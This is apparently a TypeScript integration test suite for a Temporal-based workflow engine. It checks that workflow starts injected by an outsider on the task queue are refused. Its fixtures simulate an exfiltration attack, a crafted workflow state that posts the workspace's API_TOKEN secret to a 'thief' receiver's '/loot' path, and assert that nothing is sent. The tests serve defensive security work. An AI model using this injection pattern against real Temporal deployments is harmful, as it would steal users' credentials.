import { randomUUID } from "node:crypto";
import { ApplicationFailure, Client, Connection, type WorkflowHandle } from "@temporalio/client";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import type { ExecutionInput, LoadedWorkflow } from "../src/engine/execution-types.js";
import { asWorkflowState, type WorkflowStateJson } from "../src/engine/json-shapes.js";
import { defaultQuotas } from "../src/limits/quotas.js";
import { inactivityWatchId } from "../src/temporal/inactivity-ids.js";
import { executionWorkflowId } from "../src/temporal/start-execution.js";
import { newId } from "../src/util/ids.js";
import { restWithKey } from "./support/api-server.js";
import { type RunningWorker, startWorker, testDeps } from "./support/engine.js";
import {
  createAccount,
  createWorkflow,
  startFlowlog,
  subscribeWebhook,
  type TestAccount,
  type TestFlowlog,
} from "./support/flowlog.js";
import { type HttpReceiver, sendJson, startReceiver } from "./support/http-receiver.js";
import { fireSchedule } from "./support/schedules.js";
import { until } from "./support/until.js";

/**
 * Issue 49: the Temporal frontend of the reference cluster takes starts from anyone, so a worker must not
 * run whatever a start on flowlog's task queue carries. A stranger here is a Temporal client of its own,
 * starting workflows by name with inputs it writes, as `temporal workflow start` would.
 */
const temporalServer = { address: inject("temporalAddress"), namespace: inject("temporalNamespace") };
const taskQueue = `start-check-${randomUUID()}`;
const apiToken = `secret-${randomUUID()}`;

let flowlog: TestFlowlog;
let worker: RunningWorker;
let connection: Connection;
let stranger: Client;
/** Where Alice's workflow posts her API token, as she built it to. */
let partner: HttpReceiver;
/** The stranger's own server. */
let thief: HttpReceiver;
let alice: TestAccount;
let bob: TestAccount;
let workflowId: string;

beforeAll(async () => {
  const answer = (_: unknown, response: Parameters<typeof sendJson>[0]) =>
    sendJson(response, 200, { ok: true });
  [partner, thief] = await Promise.all([startReceiver(answer), startReceiver(answer)]);
  flowlog = await startFlowlog({ taskQueue });
  worker = await startWorker(temporalServer, testDeps(flowlog.store), taskQueue);
  connection = await Connection.connect({ address: temporalServer.address });
  stranger = new Client({ connection, namespace: temporalServer.namespace });
  alice = await createAccount(flowlog.store);
  bob = await createAccount(flowlog.store);
  await flowlog.store.environment.set(alice.workspaceId, "API_TOKEN", apiToken, Date.now());
  workflowId = await createWorkflowOverRest(alice, postingTokenTo(`${partner.origin}/orders`));
});

afterAll(async () => {
  await worker?.stop();
  await connection?.close();
  await flowlog?.close();
  await Promise.all([partner?.close(), thief?.close()]);
});

/** A starter, then an HTTP block that posts `{{API_TOKEN}}` and the trigger's message to `url` (D14, D16). */
function postingTokenTo(url: string): WorkflowStateJson {
  return {
    blocks: {
      start: { type: "starter", name: "Start", config: {}, enabled: true },
      post: {
        type: "api",
        name: "Post",
        config: {
          method: "POST",
          url,
          body: { token: "{{API_TOKEN}}", message: "<start.message>" },
          retries: 0,
        },
        enabled: true,
      },
    },
    edges: [{ source: "start", target: "post" }],
    loops: {},
    parallels: {},
  };
}

const call = (account: TestAccount, method: string, path: string, body?: unknown) =>
  restWithKey(flowlog.server.url, account.key, method, path, body);

async function createWorkflowOverRest(account: TestAccount, state: WorkflowStateJson): Promise<string> {
  const created = await call(account, "POST", `/api/v1/workspaces/${account.workspaceId}/workflows`, {
    name: "Post orders",
    state,
  });
  expect(created.status, created.text).toBe(200);
  return (created.json as { workflow: { id: string } }).workflow.id;
}

/** The version the store holds, in the form the API hands it over (executions.ts). */
async function savedState(): Promise<WorkflowStateJson> {
  return asWorkflowState((await flowlog.store.workflows.getWorkflow(workflowId))?.state);
}

/** The worker's D26 bounds on an execution, which it applies whatever a start hands over. */
const bounds = {
  maxBlockRuns: defaultQuotas.workflow.maxBlockRuns,
  maxHistoryBytes: defaultQuotas.workflow.maxHistoryBytes,
};

/** What the API hands over with a start (issue 12), here with a state of the stranger's choosing. */
const handed = (state: WorkflowStateJson): LoadedWorkflow => ({
  folderId: null,
  version: 1,
  state,
  ...bounds,
});

/** The stranger starts `executeWorkflow` on flowlog's task queue, as Alice's API call would, but with `start`. */
async function strangerStarts(start: Partial<Record<keyof ExecutionInput, unknown>>) {
  const executionId = newId("ex");
  const handle = await stranger.workflow.start("executeWorkflow", {
    workflowId: executionWorkflowId(executionId),
    taskQueue,
    args: [
      {
        executionId,
        workspaceId: alice.workspaceId,
        workflowId,
        version: 1,
        trigger: "api",
        input: { message: "from a stranger" },
        billedUserId: alice.userId,
        workflow: handed(postingTokenTo(`${thief.origin}/loot`)),
        ...start,
      },
    ],
  });
  return { executionId, handle };
}

/** The run failed for good with this reason, as the Temporal UI shows it, and left no entry behind (D17). */
async function refusedWith(started: { executionId: string; handle: WorkflowHandle }): Promise<string> {
  const failure = await started.handle.result().then(
    () => undefined,
    (error: unknown) => (error as { cause?: unknown }).cause,
  );
  expect(failure, "the run was not refused").toBeInstanceOf(ApplicationFailure);
  expect(failure).toMatchObject({ type: "ExecutionRefused", nonRetryable: true });
  expect(await flowlog.store.logs.getExecution(started.executionId)).toBeUndefined();
  return (failure as ApplicationFailure).message;
}

describe("A start on the task queue is checked against the store before anything runs (issue 49)", () => {
  it("a state of the stranger's own, posting {{API_TOKEN}} to their server, is refused: nothing sent, nothing logged", async () => {
    const started = await strangerStarts({});

    expect(await refusedWith(started)).toBe(
      `execution ${started.executionId} refused: the workflow state it carries is not version 1 of workflow ` +
        `${workflowId} as workspace ${alice.workspaceId} saved it; only a saved version runs (issue 49)`,
    );
    expect(thief.received).toEqual([]);
  });

  it("the stranger's state under a workflow of their own workspace, run in Alice's, is refused", async () => {
    const own = await createWorkflow(
      flowlog.store,
      bob.workspaceId,
      "Bob's",
      null,
      postingTokenTo(thief.origin),
    );

    const message = await refusedWith(await strangerStarts({ workflowId: own }));

    expect(message).toMatch(`workflow ${own} has no version 1 in workspace ${alice.workspaceId}`);
    expect(thief.received).toEqual([]);
  });

  it("Alice's saved state, billed to someone outside her workspace, is refused before its block runs", async () => {
    const posted = partner.received.length;

    const message = await refusedWith(
      await strangerStarts({ workflow: handed(await savedState()), billedUserId: bob.userId }),
    );

    expect(message).toMatch(
      `it is billed to user ${bob.userId}, who is not a member of workspace ${alice.workspaceId}`,
    );
    expect(partner.received).toHaveLength(posted);
  });

  it("without a state, a run the worker would load is refused the same way when billed outside the workspace", async () => {
    const posted = partner.received.length;

    const message = await refusedWith(
      await strangerStarts({
        workflow: undefined,
        trigger: "schedule",
        version: 0,
        billedUserId: bob.userId,
      }),
    );

    expect(message).toMatch(`who is not a member of workspace ${alice.workspaceId}`);
    expect(partner.received).toHaveLength(posted);
  });

  it("a start whose fields have other types than flowlog's is refused, not left to fail later", async () => {
    const message = await refusedWith(await strangerStarts({ version: "1", workflow: undefined }));

    expect(message).toMatch("it does not have the shape of a start flowlog makes");
  });
});

/** The local activities an execution's history records, each with its recorded answer. */
async function localActivities(executionId: string): Promise<[string, unknown][]> {
  const history = await stranger.workflow.getHandle(executionWorkflowId(executionId)).fetchHistory();
  const text = (payloads?: { data?: Uint8Array | null }[] | null) =>
    Buffer.from(payloads?.[0]?.data ?? []).toString();
  return (history.events ?? []).flatMap((event) => {
    const marker = event.markerRecordedEventAttributes;
    if (marker?.markerName !== "core_local_activity") return [];
    const { activity_type } = JSON.parse(text(marker.details?.data?.payloads)) as { activity_type: string };
    return [[activity_type, JSON.parse(text(marker.details?.result?.payloads) || "null")]];
  });
}

describe("flowlog's own starts still run, secrets and all (D15)", () => {
  /** The one entry of the execution, once written, and what the partner received of it. */
  const loggedRun = async (executionId: string) => {
    const logged = await until("the execution's entry", () => flowlog.store.logs.getExecution(executionId));
    const received = partner.received.map((r) => JSON.parse(r.body) as { token: string; message: string });
    return { entry: logged.entry, received };
  };

  it("an API call hands over the saved state: the worker runs it", async () => {
    const answer = await call(alice, "POST", `/api/v1/workflows/${workflowId}/execute`, {
      input: { message: "over the API" },
    });

    expect(answer.status, answer.text).toBe(200);
    const { executionId } = answer.json as { executionId: string };
    const { entry, received } = await loggedRun(executionId);
    expect(entry).toMatchObject({ trigger: "api", level: "info", workspaceId: alice.workspaceId });
    expect(received).toContainEqual({ token: apiToken, message: "over the API" });
    // Issue 12 stands: the check is one local activity before the block's first try, and what history
    // records of it is the folder and the bounds, not the state a second time.
    expect(await localActivities(executionId)).toEqual([
      ["checkHandedWorkflow", { folderId: null, version: 1, ...bounds }],
      ["tryApiBlock", expect.anything()],
      ["writeExecutionLog", expect.anything()],
    ]);
  });

  it("a webhook's run, billed to who made the webhook, runs", async () => {
    const created = await call(alice, "POST", `/api/v1/workflows/${workflowId}/webhook`, {});
    expect(created.status, created.text).toBe(200);
    const path = new URL((created.json as { url: string }).url).pathname;

    const answer = await restWithKey(flowlog.server.url, null, "POST", path, { message: "by webhook" });

    expect(answer.status, answer.text).toBe(202);
    const { entry, received } = await loggedRun((answer.json as { executionId: string }).executionId);
    expect(entry).toMatchObject({ trigger: "webhook", level: "info", billedUserId: alice.userId });
    expect(received).toContainEqual({ token: apiToken, message: "by webhook" });
  });

  it("a schedule's run, which carries no state and no executionId, loads the current version and runs", async () => {
    const created = await call(alice, "POST", `/api/v1/workflows/${workflowId}/schedules`, {
      cron: "0 0 1 1 *",
      input: { message: "on schedule" },
    });
    expect(created.status, created.text).toBe(200);
    const { id } = (created.json as { schedule: { id: string } }).schedule;

    const run = await fireSchedule(stranger, `flowlog-${id}`);

    const result = await run.result();
    expect(result.status).toBe("success");
    const { entry, received } = await loggedRun(result.executionId);
    expect(entry).toMatchObject({ trigger: "schedule", level: "info", billedUserId: alice.userId });
    expect(received).toContainEqual({ token: apiToken, message: "on schedule" });
    expect((await call(alice, "DELETE", `/api/v1/schedules/${id}`)).status).toBe(200);
  });
});

describe("the other workflow types on the task queue send nothing a stranger chooses (issue 49)", () => {
  it("a no-activity watcher pairing Alice's subscription with Bob's workflow stops at its first look, sending nothing", async () => {
    const bobsWorkflow = await createWorkflow(flowlog.store, bob.workspaceId, "Bob's quiet workflow");
    const subscriptionId = await subscribeWebhook(
      flowlog.store,
      alice.workspaceId,
      `${thief.origin}/alerts`,
      {
        alertRule: { rule: "no_activity", threshold: 1, windowHours: null },
      },
    );
    const watch = { subscriptionId, workflowId: bobsWorkflow, sinceMs: Date.now() - 3 * 3_600_000 };

    const watcher = await stranger.workflow.start("watchInactivity", {
      workflowId: inactivityWatchId(subscriptionId, bobsWorkflow),
      taskQueue,
      args: [watch],
    });

    // Silent for three hours against a one-hour rule: a watcher that took the pair would alert at once.
    const alerted = until("an alert at the stranger's server", () => thief.received[0]).then(
      () => "alerted",
      () => "nothing sent for 30 s",
    );
    const outcome = await Promise.race([watcher.result().then(() => "stopped"), alerted]);
    expect(outcome).toBe("stopped");
    expect(thief.received).toEqual([]);
    expect(
      await flowlog.store.deliveries.list({ workspaceId: alice.workspaceId, subscriptionId }, 10),
    ).toEqual([]);
  });
});
